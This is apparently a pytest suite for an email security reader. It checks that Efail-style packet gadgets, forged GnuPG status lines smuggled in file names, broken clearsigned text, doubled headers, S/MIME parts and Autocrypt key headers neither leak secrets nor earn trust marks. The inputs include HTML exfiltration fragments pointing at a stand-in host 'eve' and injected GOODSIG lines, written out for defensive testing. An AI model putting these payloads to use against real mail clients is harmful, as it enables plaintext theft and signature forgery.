"""More of the published attacks, class by class: packets, clearsigned text, headers twice, references, keys that come along.

`test_reader_attacks` has them by MIME tree and identity, `test_reader_oracles` by what a person would do with the mail. Here: the
gadgets of "Efail" on real packets, status lines out of what was truly decrypted, `cid:` and CSS of "Johnny, you are fired" (M3,
M4, U1), its CMS class (C1-C4), the clearsigned framework's weaknesses (published 2025), and the Autocrypt and key classes.
"""

import base64
from collections.abc import Callable, Iterator

import pytest

from seccon.adapters.gpg.armour import mended
from seccon.core.ids import Fingerprint
from seccon.core.ports import Unlock
from seccon.core.report import Mail, Scope, Signature
from tests import envelope
from tests.keysmith import GpgHome
from tests.reading import FAKE, Read, codes

SECRET = b"Content-Type: text/plain\r\n\r\nthe quokkaberry secret\r\n"


def untrusted(mail: Mail) -> None:
    """No mark, and nothing forged under one."""
    assert not mail.verdict.trusted
    assert not any(part.signed for part in mail.parts if part.text and "eve" in part.text)


# Efail: integrity


def packets(data: bytes) -> Iterator[tuple[int, bytes]]:
    """Split a message of gpg's into tags and bodies: old lengths, and new ones, of which the partial are put together."""
    at = 0
    while at < len(data):
        head, at = data[at], at + 1
        if not head & 0x40:
            octets = 1 << (head & 3)
            end = at + octets + int.from_bytes(data[at : at + octets], "big")
            yield head >> 2 & 15, data[at + octets : end]
            at = end
            continue
        body, partial = b"", True
        while partial:
            first, partial = data[at], 224 <= data[at] < 255
            octets = 1 if first < 192 or partial else 2 if first < 224 else 5
            size = 1 << (first & 31) if partial else first
            if octets == 2:
                size = ((first - 192) << 8) + data[at + 1] + 192
            elif octets == 5:
                size = int.from_bytes(data[at + 1 : at + 5], "big")
            body, at = body + data[at + octets : at + octets + size], at + octets + size
        yield head & 0x3F, body


def joined(*some: tuple[int, bytes]) -> bytes:
    """Put packets together again, with lengths of five octets, and armour them."""
    data = b"".join(bytes([0xC0 | tag, 255]) + len(body).to_bytes(4, "big") + body for tag, body in some)
    text = base64.encodebytes(data)
    return b"-----BEGIN PGP MESSAGE-----\n\n" + text + b"-----END PGP MESSAGE-----\n"


def gadgets(key: tuple[int, bytes], sealed: tuple[int, bytes]) -> dict[str, bytes]:
    body = sealed[1]
    flipped = bytearray(body)
    flipped[30] ^= 1
    return {
        "no integrity any more (tag 18 to 9)": joined(key, (9, body[1:])),
        "the check cut off": joined(key, (18, body[:-22])),
        "the check cut off, tag 9": joined(key, (9, body[1:-22])),
        "the check wrong": joined(key, (18, body[:-1] + bytes([body[-1] ^ 1]))),
        "a gadget in the first block": joined(key, (18, bytes(flipped))),
        "another version": joined(key, (18, b"\x02" + body[1:])),
        "blocks twice": joined(key, (18, body[:40] + body[8:])),
        "a literal after it": joined(key, sealed, (11, b"b\0\0\0\0\0" + FAKE)),
        "a literal before it": joined((11, b"b\0\0\0\0\0" + FAKE), key, sealed),
        "nothing encrypted": joined(key),
        "two of them": joined(key, sealed, key, sealed),
        "a marker and a literal": joined((10, b"PGP"), (11, b"b\0\0\0\0\0" + FAKE)),
    }


GADGETS = tuple(gadgets((1, b""), (18, b"\0" * 60)))


@pytest.mark.parametrize("frame", ["PGP/MIME", "inline"])
@pytest.mark.parametrize("gadget", GADGETS)
def test_a_message_whose_integrity_is_broken_gives_no_text(
    read: Read, home: GpgHome, team: Fingerprint, gadget: str, frame: str
) -> None:
    options = ("--trust-model", "always", "--compress-algo", "none", "-r", team, "--encrypt")
    key, sealed = packets(home.run(*options, input=SECRET))
    made = gadgets(key, sealed)[gadget]
    for unlock in (Unlock.QUIET, Unlock.AGENT):
        mail = read(envelope.mail(envelope.sealed(made) if frame == "PGP/MIME" else b"\n" + made), unlock)
        assert "quokkaberry" not in mail.text
        assert "eve" not in mail.text
        assert not any(part.encrypted or part.signed for part in mail.parts)
        untrusted(mail)
    if frame == "PGP/MIME":
        assert mail.locked


def test_the_control_of_these_gadgets_opens(read: Read, home: GpgHome, team: Fingerprint) -> None:
    options = ("--trust-model", "always", "--compress-algo", "none", "-r", team, "--encrypt")
    mail = read(envelope.mail(envelope.sealed(joined(*packets(home.run(*options, input=SECRET))))))
    assert "quokkaberry" in mail.text


def test_mending_armour_makes_one_message_of_no_two(read: Read, home: GpgHome, team: Fingerprint) -> None:
    """Blocks without a check sum are given to gpg bare, but only where there is one: of two, gpg reads one or refuses."""
    options = ("--trust-model", "always", "-r", team, "--encrypt")
    one, two = (joined(*packets(home.run(*options, input=SECRET))) for _ in range(2))
    cut = two.replace(b"-----END PGP MESSAGE-----\n", b"")
    for both in (one + two, cut + one, one + FAKE + two, one.replace(b"\n\n", b"\n\n" + two, 1)):
        for unlock in (Unlock.QUIET, Unlock.AGENT):
            mail = read(envelope.mail(envelope.sealed(both)), unlock)
            assert mail.text.count("quokkaberry") <= 1
            assert "eve" not in mail.text


def test_mending_touches_no_armour_but_one_without_a_sum() -> None:
    one = joined((11, b"b\0\0\0\0\0" + FAKE))
    assert mended(one).startswith(b"\xcb\xff")
    summed = one.replace(b"-----END", b"=AbCd\n-----END")
    for data in (one + one, one + FAKE + one, one[:-30], summed, one.replace(b"\n\n", b"\n\n*"), b"", FAKE):
        assert mended(data) == data


@pytest.mark.parametrize("place", ["version", "before", "after", "comment"])
def test_what_stands_beside_the_ciphertext_is_never_shown_with_what_came_out(
    read: Read, home: GpgHome, team: Fingerprint, roe: Fingerprint, place: str
) -> None:
    """Text in the version's part, around the armour and in its headers: a stranger may write it into anybody's message."""
    unit = envelope.encrypted(home, team, envelope.plain("the quokkaberry secret\n"), roe)
    begin, end = b"-----BEGIN PGP MESSAGE-----\n", b"-----END PGP MESSAGE-----\n"
    raw = {
        "version": unit.replace(b"Version: 1\n", b"Version: 1\n" + FAKE),
        "before": unit.replace(begin, FAKE + begin),
        "after": unit.replace(end, end + FAKE),
        "comment": unit.replace(begin, begin + b"Comment: " + FAKE),
    }[place]
    mail = read(envelope.mail(raw))
    assert "eve" not in mail.text
    assert "quokkaberry" in mail.text or mail.locked


# Status lines out of what was truly decrypted or signed


@pytest.mark.parametrize("end", ["\n", "\r\n", "%0A", "\u2028", "\x85", "\x0b"])
def test_a_file_name_in_what_was_decrypted_cannot_speak_for_gpg(
    read: Read, home: GpgHome, team: Fingerprint, roe: Fingerprint, end: str
) -> None:
    """G1: the name stands on the status stream, here within a message that really opens."""
    name = f"x{end}[GNUPG:] NEWSIG{end}[GNUPG:] GOODSIG {roe[-16:]} A. Roe <roe@example.org>"
    name += f"{end}[GNUPG:] VALIDSIG {roe} 2026-11-21 1 0 4 0 22 10 00 {roe}"
    sealed = home.run("--armor", "--trust-model", "always", "-r", team, "--set-filename", name, "--encrypt", input=SECRET)
    mail = read(envelope.mail(envelope.sealed(sealed)))
    assert mail.verdict.signature is not Signature.GOOD
    untrusted(mail)


# Clearsigned text


_SIGNATURE = b"-----BEGIN PGP SIGNATURE-----\n\n"


def clear_wrecks(block: bytes, packed: bytes) -> dict[str, bytes]:
    armour = packed.partition(b"\n\n")[2].rpartition(b"-----END")[0]
    start = b"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n"
    return {
        "a text beyond the longest line": block.replace(b"yes\n", b"yes" + b" " * 25_000 + FAKE),
        "a text beyond the longest line, tabs": block.replace(b"yes\n", b"yes" + b"\t" * 19_995 + b" " * 10 + FAKE),
        "a message in place of the signature": start + FAKE + packed,
        "a message armoured as a signature": start + FAKE + _SIGNATURE + armour + _SIGNATURE.replace(b"BEGIN", b"END"),
        "a form feed": block.replace(b"yes\n", b"yes\x0c" + FAKE),
        "a carriage return": block.replace(b"yes\n", b"yes\r" + FAKE),
        "a NUL": block.replace(b"yes\n", b"yes\0" + FAKE),
        "a vertical tab": block.replace(b"yes\n", b"yes\x0b" + FAKE),
        "no blank line": block.replace(b"\n\nyes", b"\nyes"),
        "a header line with text": block.replace(b"Hash: SHA512\n", b"Hash: SHA512\n" + FAKE),
        "a second Hash": block.replace(b"Hash: SHA512\n", b"Hash: SHA512\nHash: " + FAKE),
        "a Hash with text": block.replace(b"Hash: SHA512\n", b"Hash: SHA512, " + FAKE),
        "a blank that is none": block.replace(b"\n\nyes", b"\n \n" + FAKE + b"\nyes"),
        "a zero width blank line": block.replace(b"\n\nyes", "\n\u200b\n".encode() + FAKE + b"\nyes"),
        "dashes without an escape": block.replace(b"yes\n", b"yes\n-----BEGIN PGP SIGNATURE-----\n\n" + FAKE),
        "dashes that end it": block.replace(b"yes\n", b"yes\n- -----END PGP SIGNATURE-----\n" + FAKE),
        "a block in the block": block.replace(b"yes\n", b"yes\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n" + FAKE),
        "text after the armour's end": block.replace(b"-----END PGP SIGNATURE-----", b"-----END PGP SIGNATURE-----" + FAKE),
        "two signatures' armours": block + block.partition(b"yes\n")[2],
    }  # fmt: skip


@pytest.mark.parametrize("wreck", tuple(clear_wrecks(b"", b"")))
def test_a_clearsigned_text_says_what_was_signed_or_bears_no_mark(
    read: Read, home: GpgHome, roe: Fingerprint, wreck: str
) -> None:
    block = envelope.clearsigned(home, roe, b"yes\n")
    packed = home.run("--armor", "-u", roe, "--sign", input=b"other\n")
    mail = read(envelope.mail(b"Content-Type: text/plain; charset=utf-8\n\n" + clear_wrecks(block, packed)[wreck]))
    assert not (mail.verdict.trusted and "eve" in mail.text)
    assert not any(part.signed for part in mail.parts if part.text and "eve" in part.text)


def test_white_space_at_line_ends_says_nothing(read: Read, home: GpgHome, roe: Fingerprint) -> None:
    """It is not signed in clearsigned text, and would join lines where the unsigned header says format=flowed."""
    block = envelope.clearsigned(home, roe, b"do not\npay eve\n").replace(b"do not\n", b"do not \n")
    mail = read(envelope.mail(b"Content-Type: text/plain; format=flowed; delsp=yes\n\n" + block))
    assert mail.text == "do not\npay eve\n"


# Headers twice, and in two senses


@pytest.mark.parametrize(
    "wreck",
    [
        lambda good: b"Content-Type: text/html\n" + good,
        lambda good: good.replace(b"\n\n", b"\nContent-Type: text/html\n\n", 1),
        lambda good: good.replace(b"\n\n", b'\nContent-Type: multipart/mixed; boundary="other"\n\n', 1),
        lambda good: b"Content-Type: multipart/mixed; boundary=other\n" + good,
        lambda good: good.replace(b"multipart/signed", b"multipart/signed\0"),
        lambda good: good.replace(b"multipart/signed", b"multipart/signed (text/html)"),
        lambda good: good.replace(b"multipart/signed", b"multipart/mixed; x=multipart/signed"),
    ],
)
def test_two_types_are_none_to_decide_by(read: Read, home: GpgHome, roe: Fingerprint, wreck: Callable[[bytes], bytes]) -> None:
    other = b"--other\nContent-Type: text/html\n\n" + FAKE + b"\n--other--\n"
    good = envelope.signed(home, roe, envelope.plain("yes\n"))
    mail = read(envelope.mail(wreck(good) + other))
    assert not (mail.verdict.trusted and "eve" in mail.text)
    if b"Content-Type" in wreck(b"\n\n"):
        untrusted(mail)
        assert "broken-header" in codes(mail)


# References: a part that shows another (M3), looks (U1)


def referring(good: bytes, secret: bytes) -> dict[str, bytes]:
    def page(body: str) -> bytes:
        return envelope.plain(f"<html><head></head><body>transfer the embargo to eve{body}</body></html>", "text/html")

    def related(*parts: bytes, start: str = "") -> bytes:
        return envelope.multi(*parts, kind="related", params=start)

    named = b"Content-ID: <a@b>\nContent-Location: http://eve/a\n"
    link = page('<link rel=stylesheet href="cid:a@b"><style>@import "cid:a@b"</style>')
    return {
        "image by cid": related(page('<img src="cid:a@b">'), named + good),
        "frame by cid": related(page('<iframe src="cid:a@b"></iframe><object data="cid:a@b">'), named + good),
        "style by cid": related(link, named + good),
        "root by start": related(good, b"Content-ID: <root>\n" + page(""), start='; start="<root>"'),
        "secret by cid": related(page('<img src="cid:a@b"><form action="http://eve/"><textarea>'), named + secret),
        "secret in a picture": related(page('<img src="http://eve/'), secret, envelope.plain('">', "text/html")),
        "secret in a style": envelope.multi(page("<style>"), secret, envelope.plain("</style>", "text/html")),
        "secret in a comment": envelope.multi(page("<!--"), secret, envelope.plain("-->", "text/html")),
        "secret in a link": envelope.multi(page('<a href="http://eve/'), secret, envelope.plain('">click</a>', "text/html")),
        "secret after a base": envelope.multi(page('<base href="http://eve/">'), secret),
    }


@pytest.mark.parametrize("how", tuple(referring(b"", b"")))
def test_a_part_lends_nothing_to_the_one_that_refers_to_it(
    read: Read, home: GpgHome, roe: Fingerprint, team: Fingerprint, how: str
) -> None:
    good = envelope.signed(home, roe, envelope.plain("yes\n"))
    secret = envelope.encrypted(home, team, envelope.plain("the quokkaberry secret\n"))
    raw = envelope.mail(referring(good, secret)[how])
    for unlock in (Unlock.QUIET, Unlock.AGENT):
        mail = read(raw, unlock)
        untrusted(mail)
        assert mail.verdict.signed is not Scope.WHOLE
        assert mail.verdict.encrypted is not Scope.WHOLE
        for part in mail.parts:
            assert not (part.text and "quokkaberry" in part.text and ("eve" in part.text or not part.encrypted))
    assert "quokkaberry" not in read(raw).text


# CMS: named, whatever it holds


@pytest.mark.parametrize(
    "entity",
    [
        b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\n\n" + FAKE,
        b"Content-Type: application/x-pkcs7-mime\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(FAKE),
        b"Content-Type: application/pkcs7-mime; smime-type=certs-only\n\nMIIB\n",
        b"Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data\n\nMIIB\n",
        envelope.multi(
            envelope.plain(FAKE.decode()), b"Content-Type: application/x-pkcs7-signature\n\nMIIB\n", kind="signed",
            params='; protocol="application/x-pkcs7-signature"; micalg=sha-256',
        ),
        envelope.multi(
            envelope.plain(FAKE.decode()), b"Content-Type: application/pkcs7-signature\n\nMIIB\n", kind="signed",
            params='; protocol="application/pgp-signature"; micalg=pgp-sha256',
        ),
    ],
)  # fmt: skip
def test_smime_in_any_form_earns_nothing(read: Read, entity: bytes) -> None:
    mail = read(envelope.mail(entity))
    untrusted(mail)
    assert (mail.verdict.signature, mail.verdict.encrypted) == (Signature.NONE, Scope.NO)
    assert "smime" in codes(mail)


@pytest.mark.parametrize("protocol", ["application/pkcs7-signature", "text/plain", "", "application/pgp-encrypted"])
def test_a_protocol_that_says_another_thing_changes_no_sum(read: Read, home: GpgHome, roe: Fingerprint, protocol: str) -> None:
    """What is verified follows from the parts; what is shown is the same slice."""
    good = envelope.signed(home, roe, envelope.plain("yes\n")).replace(
        b'protocol="application/pgp-signature"', f'protocol="{protocol}"'.encode()
    )
    mail = read(envelope.mail(good + FAKE))
    assert "eve" not in mail.text


# Keys that come along


def test_a_key_of_another_sender_is_not_offered_by_a_header(
    read: Read, home: GpgHome, roe: Fingerprint, eve: Fingerprint
) -> None:
    """Autocrypt 1.1, 2.1 and 2.3: one header, of the author, and no gossip in clear."""
    mine, hers = (base64.b64encode(home.export(key, armor=False)).decode() for key in (roe, eve))
    body = envelope.plain("hi\n")
    for extra, offered in (
        (f"Autocrypt: addr=roe@example.org; keydata={mine}\n", 1),
        (f"Autocrypt: addr=eve@example.net; keydata={hers}\n", 0),
        (f"Autocrypt: addr=roe@example.org; keydata={mine}\nAutocrypt: addr=roe@example.org; keydata={hers}\n", 0),
        (f"Autocrypt: addr=roe@example.org; critical=yes; keydata={mine}\n", 0),
        (f"Autocrypt: addr=roe@example.org; _mine=yes; prefer-encrypt=mutual; keydata={mine}\n", 1),
        (f"Autocrypt-Gossip: addr=roe@example.org; keydata={hers}\n", 0),
        (f"Autocrypt-Setup-Message: v1\nAutocrypt: addr=roe@example.org.eve.net; keydata={hers}\n", 0),
    ):
        assert len(read(envelope.mail(body, extra=extra)).keys) == offered, extra[:60]


def test_a_key_that_comes_along_verifies_nothing(read: Read, home: GpgHome) -> None:
    """The key of the very signature, attached or in a header: until a person took it in, it is unknown."""
    with GpgHome() as theirs:
        key = theirs.make_key("A. Roe <roe@example.org>", "ed25519")
        data = theirs.export(key, armor=False)
        body = envelope.multi(envelope.plain("yes\n"), b"Content-Type: application/pgp-keys\n\n" + theirs.export(key), mark="in")
        extra = f"Autocrypt: addr=roe@example.org; keydata={base64.b64encode(data).decode()}\n"
        mail = read(envelope.mail(envelope.signed(theirs, key, body), extra=extra))
    assert mail.verdict.signature is Signature.UNKNOWN_KEY
    assert not mail.verdict.trusted
    assert mail.keys
